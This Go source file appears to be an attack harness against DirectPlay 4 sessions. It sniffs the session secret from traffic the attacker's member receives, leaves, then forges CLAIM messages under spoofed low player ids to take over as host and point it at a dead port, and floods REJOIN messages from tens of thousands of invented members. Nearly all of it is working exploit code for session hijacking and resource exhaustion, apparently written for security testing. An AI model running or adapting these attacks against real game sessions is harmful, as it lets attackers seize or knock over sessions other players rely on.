package main

import (
	"context"
	"errors"
	"net"
	"net/netip"
	"slices"

	"dplay4/dpsp/sock/network"
	"dplay4/wire"
)

// A readable network is that of the system. The attacker reads what its machine is sent over TCP: the secret of the session, which a member
// is told with EXTENSION FORMERS, or in a session with views its members, of which INSTALL tells.
type readable struct {
	network.System
	secret chan wire.GUID           // with room for one
	view   chan *wire.ExtensionView // likewise
}

// ListenStream opens a TCP listener.
func (n *readable) ListenStream(at netip.AddrPort) (net.Listener, error) {
	l, err := n.System.ListenStream(at)
	if err != nil {
		return nil, err
	}
	return &readableListener{l, n}, nil
}

// DialStream connects to a TCP listener.
func (n *readable) DialStream(ctx context.Context, from netip.Addr, to netip.AddrPort) (network.Stream, error) {
	c, err := n.System.DialStream(ctx, from, to)
	if err != nil {
		return nil, err
	}
	return &readableStream{TCPConn: c.(*net.TCPConn), of: n}, nil
}

type readableListener struct {
	net.Listener
	of *readable
}

func (l *readableListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return &readableStream{TCPConn: c.(*net.TCPConn), of: l.of}, nil
}

// A readableStream is a connection whose messages are read by two: the machine and the attacker.
type readableStream struct {
	*net.TCPConn
	of   *readable
	rest []byte // of a message that has not come whole
}

func (s *readableStream) Read(b []byte) (int, error) {
	n, err := s.TCPConn.Read(b)
	s.rest = append(s.rest, b[:n]...)
	for len(s.rest) >= wire.SPHeaderSize {
		size, bad := wire.FrameSize(s.rest)
		if bad != nil {
			s.rest = nil
		}
		if bad != nil || size == 0 || size > len(s.rest) {
			break
		}
		s.of.look(s.rest[:size])
		s.rest = s.rest[size:]
	}
	return n, err
}

// look sends the secret of the session to n.secret and INSTALL to n.view, if the message holds it.
func (n *readable) look(message []byte) {
	e, err := new(wire.Decoder).DecodeStream(message)
	if err != nil || !e.System() {
		return
	}
	x, ok := e.Message.(*wire.Extension)
	if !ok {
		return
	}
	switch b := x.Body.(type) {
	case *wire.ExtensionFormers:
		if !b.Secret.IsZero() {
			select {
			case n.secret <- b.Secret:
			default:
			}
		}
	case *wire.ExtensionView:
		if b.Step == wire.ViewInstall {
			b.Members, b.Ops = slices.Clone(b.Members), nil
			select {
			case n.view <- b:
			default:
			}
		}
	}
}

// former is what the attacker keeps of a session that it left.
type former struct {
	machine
	secret wire.GUID
	view   *wire.ExtensionView // with which it was let in, in a session with views
	desc   wire.SessionDesc
}

// enterAndLeave makes the attacker a member, which leaves once it was told the secret of the session.
func (x *striker) enterAndLeave() error {
	o := x.options(200)
	network := &readable{secret: make(chan wire.GUID, 1), view: make(chan *wire.ExtensionView, 1)}
	o.Network = network
	s, m, err := x.join(o, "Attacker", nil, nil)
	if err != nil {
		return err
	}
	defer s.Close()
	x.former = former{machine: m, desc: s.Info().Desc}
	select {
	case x.former.secret = <-network.secret:
	case x.former.view = <-network.view:
	case <-x.ctx.Done():
		return errors.New("the session tells no secret and no view")
	}
	return s.Leave(x.ctx)
}

// claimLeft sends CLAIM with the session's secret: the host is at a port where nobody listens. The sender is the attacker's former id,
// then id 1, which is lower than all others, so that the rule of DirectPlay 4 prefers it.
func (x *striker) claimLeft() error {
	nobody := netip.AddrPortFrom(x.at(0), 2398)
	if x.Views {
		return x.claimViews(nobody)
	}
	for again := true; again; again = x.pause(everyMoment) {
		for _, from := range []wire.PlayerID{x.former.System, 1} {
			for _, to := range []machine{x.Host, x.Control} {
				c := x.call(x.at(0), to.Stream)
				if c == nil {
					continue
				}
				c.Write(octets(port(nobody.Port()), wire.NewExtension(from, &wire.ExtensionClaim{
					To: to.System, Secret: x.former.secret, Instance: x.former.desc.Instance, Version: 1 << 20,
					Stream: wire.SockAddr{Family: wire.FamilyINet, Port: nobody.Port(), Addr: nobody.Addr().As4()},
				})))
				c.Close()
			}
		}
	}
	return nil
}

// madeUp is the first id of machines that were never in the session, and of which there are as many.
const (
	madeUp   = wire.PlayerID(0x5EC70000)
	madeUpOf = 0x10000
)

// rejoinMadeUp has machines come back that were never in the session.
func (x *striker) rejoinMadeUp() error {
	l, err := net.ListenTCP("tcp4", net.TCPAddrFromAddrPort(netip.AddrPortFrom(x.at(0), 2398)))
	if err != nil {
		return err
	}
	defer l.Close()
	if x.Views {
		go accept(l, func(c net.Conn) { c.Close() })
		return x.rejoinViews()
	}
	go accept(l, func(c net.Conn) {
		x.mu.Lock()
		defer x.mu.Unlock()
		x.conns = append(x.conns, c)
	})
	at := wire.SockAddr{Family: wire.FamilyINet, Port: 2398, Addr: x.at(0).As4()}
	sp := wire.SPData{Stream: at, Datagram: at}
	sp.Mark()
	for n := wire.PlayerID(0); n < madeUpOf && (n == 0 || x.pause(everyMoment)); n++ {
		c := x.call(x.at(0), x.Host.Stream)
		if c == nil {
			continue
		}
		c.Write(octets(port(2398), wire.NewExtension(madeUp+n, &wire.ExtensionRejoin{
			Secret: x.former.secret, Instance: x.former.desc.Instance, Reserved1: x.former.desc.Reserved1, Host: x.Host.System,
			Dialect: uint32(wire.DX9), SPData: sp.Append(nil),
		})))
		x.mu.Lock()
		x.conns = append(x.conns, c)
		x.mu.Unlock()
	}
	return nil
}
